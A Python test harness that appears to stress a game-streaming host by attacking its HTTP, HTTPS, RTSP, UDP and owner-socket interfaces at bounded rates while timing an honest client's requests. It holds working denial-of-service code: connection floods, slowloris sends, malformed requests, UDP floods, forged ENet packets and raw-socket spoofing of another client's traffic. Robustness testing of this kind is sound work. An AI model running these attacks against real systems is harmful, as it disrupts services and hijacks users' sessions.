"""The neighbour nobody invited: `hostile.py ..` attacks every door of a host at bounded rates, and asks like a guest.

It runs in the client's network namespace with addresses of its own. `begin` and `end` on standard input start and stop
the siege. A line of JSON answers each: the first when the siege is under way, the second says what was done and how
long an honest request took meanwhile. Rates are
bounded because the attackers, the client and the host share two cores here: what is to be measured is what the host's
doors let in, not how fast this machine runs out of processor.
"""

import argparse
import asyncio
import collections
import contextlib
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

HTTP, HTTPS, VIDEO, CONTROL, AUDIO, RTSP = 47989, 47984, 47998, 47999, 48000, 48010
DOORS = (HTTP, HTTPS, RTSP)
# More connections than any door has places for one address; together above five hundred.
HALF_OPEN_EACH, SLOW_EACH = 160, 30
RATES = {"reopen": 60, "malformed": 15, "handshake": 4, "datagram": 150, "connect": 60, "forged": 80, "owner": 8}
KINDS = ("half-open", "slow", "malformed", "handshake", "datagram", "connect", "forged", "owner")
UNDER_WAY_S = 6
GET = b"GET /serverinfo?uniqueid=0123456789ABCDEF HTTP/1.1\r\nHost: a\r\nX-Slow: " + b"a" * 4000
SLOW = {HTTP: GET, HTTPS: bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + bytes(600),
        RTSP: b"OPTIONS rtsp://a:48010 RTSP/1.0\r\nCSeq: 1\r\nX-Slow: " + b"a" * 4000}


class Siege:
    def __init__(self, options):
        self.host, self.addresses, self.guest = options.host, options.attackers.split(","), options.guest
        self.owner_socket, self.interface = options.owner_socket, options.interface
        self.random = random.Random(7)
        self.counts, self.probes = collections.Counter(), collections.defaultdict(list)
        # Cancelling a task may be lost on an operation that ends at that moment; the task sees this then.
        self.goes_on = False
        self.insecure = ssl.create_default_context()
        self.insecure.check_hostname, self.insecure.verify_mode = False, ssl.CERT_NONE

    def address(self):
        return self.random.choice(self.addresses)

    def attacks(self):
        for port in DOORS:
            for _ in range(HALF_OPEN_EACH):
                yield self.half_open(port)
            for _ in range(SLOW_EACH):
                yield self.slowly(port)
            yield self.again("malformed", self.malformed, port)
            yield self.guest_asks(port)
        yield self.again("handshake", self.handshake)
        for what, once in (("datagram", self.datagram), ("connect", self.connect)):
            sockets = [self.udp(self.addresses[at % len(self.addresses)]) for at in range(60)]
            yield self.again(what, once, sockets)
        yield self.forge()
        if self.owner_socket:
            yield self.again("owner", self.owner)
            for _ in range(20):
                yield self.half_open(self.owner_socket)

    async def under_way(self):
        """Returns when each attack has been made and the doors are crowded."""
        while min(self.counts[what] for what in KINDS) < 1 or self.counts["half-open"] < len(DOORS) * HALF_OPEN_EACH:
            await asyncio.sleep(0.05)

    async def again(self, what, once, *arguments):
        """Does something at its rate, whatever becomes of each time."""
        while self.goes_on:
            with contextlib.suppress(OSError, EOFError, asyncio.TimeoutError):
                await asyncio.wait_for(once(*arguments), 5)
            self.counts[what] += 1
            await asyncio.sleep(1 / RATES[what])

    async def reach(self, door, tls=None, address=None):
        if isinstance(door, str):
            return await asyncio.open_unix_connection(door)
        return await asyncio.open_connection(self.host, door, ssl=tls, local_addr=(address or self.address(), 0))

    async def half_open(self, door):
        """Connects and never speaks; whoever is sent away comes back."""
        while self.goes_on:
            with contextlib.suppress(OSError):
                reader, writer = await self.reach(door)
                self.counts["half-open"] += 1
                with contextlib.closing(writer):
                    await reader.read(1)
            await asyncio.sleep(self.random.uniform(0.5, 1.5) * 3 * HALF_OPEN_EACH / RATES["reopen"])

    async def slowly(self, door):
        """One byte a second, for ever."""
        while self.goes_on:
            with contextlib.suppress(OSError):
                reader, writer = await self.reach(door)
                self.counts["slow"] += 1
                with contextlib.closing(writer):
                    for byte in SLOW[door]:
                        writer.write(bytes([byte]))
                        await writer.drain()
                        if reader.at_eof():
                            break
                        await asyncio.sleep(1)
            await asyncio.sleep(self.random.uniform(1, 3))

    async def malformed(self, door):
        noise = self.random.randbytes(self.random.choice([1, 50, 2000]))
        head = b"POST /launch?" + b"a=%zz&" * 200 + b" HTTP/1.1\r\nHost: a\r\n"
        text = self.random.choice([
            noise, b"\x16\x03\x01\x40\x00" + noise, b"\x80\x01\x00\x00" + noise, b"\xff\xff\xff\xff" + noise,
            b"GET /" + b"a" * 70_000, b"GET /serverinfo HTTP/1.1\r\n" + b"X: y\r\n" * 3000 + b"\r\n",
            head + b"Content-Length: 99999999999\r\n\r\n" + noise * 30,
            head + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFF\r\n",
            b"GET /pair?phrase=getservercert&salt=00&clientcert=" + b"41" * 9000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
            b"ANNOUNCE x RTSP/1.0\r\nContent-length: 65000\r\n\r\n" + noise * 30,
            b"OPTIONS * RTSP/1.0\r\nSession: a\r\n\r\n",
            b"SETUP x RTSP/1.0\r\nContent-length: 18446744073709551615\r\n\r\n", b"\n" * 9000])
        reader, writer = await self.reach(door)
        with contextlib.closing(writer):
            writer.write(text)
            await writer.drain()
            await asyncio.wait_for(reader.read(65536), 1)

    async def handshake(self):
        """TLS up to the end without a certificate, or broken off in the middle."""
        whole = self.random.random() < 0.5
        hello = ssl.MemoryBIO()
        if whole:
            _, writer = await self.reach(HTTPS, self.insecure)
            return writer.close()
        with contextlib.suppress(ssl.SSLWantReadError):
            self.insecure.wrap_bio(ssl.MemoryBIO(), hello).do_handshake()
        _, writer = await self.reach(HTTPS)
        writer.write(hello.read())
        await asyncio.sleep(0.2)
        writer.close()

    def udp(self, address):
        own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        own.setblocking(False)
        own.bind((address, 0))
        return own

    async def datagram(self, sockets):
        size = self.random.choice([0, 1, 4, 20, 48, 200, 1400, 1400, 4097, 9000])
        noise = self.random.choice([self.random.randbytes(size), bytes(size), b"PING", b"PING" * 5])
        own = self.random.choice(sockets)
        own.sendto(noise, (self.host, self.random.choice([VIDEO, CONTROL, AUDIO])))

    async def connect(self, sockets):
        """Asks for an ENet connection with data that no ticket has, or tears at one that exists."""
        channels = self.random.choice([0, 1, 48, 255, 2**32 - 1])
        request = struct.pack(">HHBBHHBB10I", 0x8FFF, 9, 0x82, 0xFF, 1, 0, 0xFF, 0xFF, 900, 65536, channels, 0, 0,
                              5000, 2, 2, self.random.getrandbits(32), self.random.getrandbits(32))
        goodbye = struct.pack(">HHBBHI", 0x8000 | self.random.randrange(64), 9, 0x84, 0xFF, 1, 0)
        own = self.random.choice(sockets)
        own.sendto(self.random.choice([request, request[:-5], request + request[4:], goodbye]), (self.host, CONTROL))

    async def forge(self):
        """Listens to the guest's own datagrams and sends them again in its name: the same, cut, torn and made up."""
        wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        wire.bind((self.interface, 0))
        wire.setblocking(False)
        heard = collections.deque(maxlen=200)
        while self.goes_on:
            for _ in range(200):
                if not select.select([wire], [], [], 0)[0]:
                    break
                frame, origin = wire.recvfrom(2048)
                # Only what leaves here; what was forged is not taken for the guest's.
                if origin[2] == socket.PACKET_OUTGOING and is_guests(frame, self.guest) and not forged(frame):
                    heard.append(frame)
            if heard:
                with contextlib.suppress(OSError):
                    wire.send(self.forgery(self.random.choice(heard)))
                    self.counts["forged"] += 1
            await asyncio.sleep(1 / RATES["forged"])

    def forgery(self, frame):
        payload, change = bytearray(frame[42:]), self.random.randrange(6)
        if change == 1:
            payload = payload[:self.random.randrange(len(payload) + 1)]
        elif change == 2 and payload:
            payload[self.random.randrange(len(payload))] ^= 1 << self.random.randrange(8)
        elif change >= 3 and struct.unpack(">H", frame[36:38])[0] == CONTROL and len(payload) > 8:
            head = bytes(payload[:4]) if payload[0] & 0x80 else bytes(payload[:2])
            number = self.random.randrange(1, 65536) if change == 3 else self.random.randrange(1, 400)
            channel = self.random.choice([0, 0, 1, 2, 0xFF])
            noise = self.random.randbytes(40)
            body = self.random.choice([
                # A message in a place that the guest's next one would have.
                struct.pack(">BBHH", 0x86, channel, number, len(noise)) + noise,
                struct.pack(">BBHH", 0x86, channel, number, len(noise)) + noise,
                struct.pack(">BBHHHIIIII", 0x88, channel, number, number, 4, 2, 0, 2000, 0, 0)[:24] + b"abcd",
                struct.pack(">BBHHH", 0x49, channel, number, number, 4) + b"abcd",
                struct.pack(">BBHHH", 0x01, channel, number, number, number),
                struct.pack(">BBHII", 0x8A, 0xFF, number, 1, 1),
                struct.pack(">BBHIII", 0x8B, 0xFF, number, 1, 1, 1),
                struct.pack(">BBHI", 0x84, 0xFF, number, 0)])
            payload = head + body
        return in_the_name_of(frame, bytes(payload))

    async def owner(self):
        """Requests at the owner's socket that no client of ours makes, and pieces of them."""
        body = self.random.choice([b"{", b"[" * 20_000, b'{"pin":"' + b"1" * 40_000 + b'"}', b'{"pin":1}',
                                   b"\xff" * 100,
                                   b'{"pin":"0000","request":18446744073709551616}'])
        length = self.random.choice([len(body), 2**40, 0])
        path = self.random.choice([b"/api/v1/pairing/pin", b"/api/v1/sessions/1e99/traces",
                                   b"/" + b"a" * 20_000, b"/api/v1/clients"])
        method = self.random.choice([b"GET", b"POST", b"DELETE", b"BREW"])
        reader, writer = await self.reach(self.owner_socket)
        with contextlib.closing(writer):
            writer.write(method + b" " + path + b" HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                         b"Content-Length: %d\r\n\r\n" % length + body)
            await writer.drain()
            await asyncio.wait_for(reader.read(65536), 1)

    async def guest_asks(self, door):
        """An honest request, again and again, from an address of its own."""
        while door != RTSP and self.goes_on:
            began = time.monotonic()
            try:
                reader, writer = await self.reach(door, self.insecure if door == HTTPS else None, self.guest)
                with contextlib.closing(writer):
                    writer.write(b"GET /serverinfo?uniqueid=0123456789ABCDEF HTTP/1.1\r\nHost: a\r\n\r\n")
                    # Without a certificate HTTPS answers that the guest is not paired, which is as good.
                    answered = b"HTTP/1.1 200" in await asyncio.wait_for(reader.read(65536), 20)
            except (OSError, asyncio.TimeoutError):
                answered = False
            took = time.monotonic() - began
            self.probes[str(door)].append(took if answered else None)
            await asyncio.sleep(1)


def is_guests(frame, guest):
    """An IPv4 datagram over UDP from the guest to one of the host's ports."""
    return (len(frame) > 42 and frame[12:14] == b"\x08\x00" and frame[14] == 0x45 and frame[23] == 17
            and frame[26:30] == socket.inet_aton(guest)
            and struct.unpack(">H", frame[36:38])[0] in (VIDEO, CONTROL, AUDIO))


FORGED_TTL = 63


def forged(frame):
    return frame[22] == FORGED_TTL


def in_the_name_of(frame, payload):
    """The frame with another payload; its checksums are right, or absent where that is allowed."""
    head = bytearray(frame[14:34])
    head[2:4] = struct.pack(">H", 28 + len(payload))
    head[8], head[10:12] = FORGED_TTL, b"\0\0"
    total = sum(struct.unpack(">10H", head))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    head[10:12] = struct.pack(">H", ~total & 0xFFFF)
    return frame[:14] + bytes(head) + frame[34:38] + struct.pack(">HH", 8 + len(payload), 0) + payload


async def main(options):
    siege = Siege(options)
    loop = asyncio.get_running_loop()
    orders = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(orders), sys.stdin)
    tasks = []
    while order := (await orders.readline()).decode().strip():
        if order == "begin":
            siege.goes_on = True
            siege.counts.clear()
            siege.probes.clear()
            tasks = [asyncio.create_task(attack) for attack in siege.attacks()]
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(siege.under_way(), UNDER_WAY_S)
            print(json.dumps(siege.counts), flush=True)
        if order == "end":
            siege.goes_on = False
            for task in tasks:
                task.cancel()
            failures = await asyncio.gather(*tasks, return_exceptions=True)
            broken = [repr(failure) for failure in failures if isinstance(failure, Exception)]
            print(json.dumps({"done": siege.counts, "probes": siege.probes, "broken": broken[:3]}), flush=True)
            tasks = []


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    for name in ("host", "attackers", "guest", "interface", "owner-socket"):
        parser.add_argument(f"--{name}", default="")
    os.nice(5)
    asyncio.run(main(parser.parse_args()))
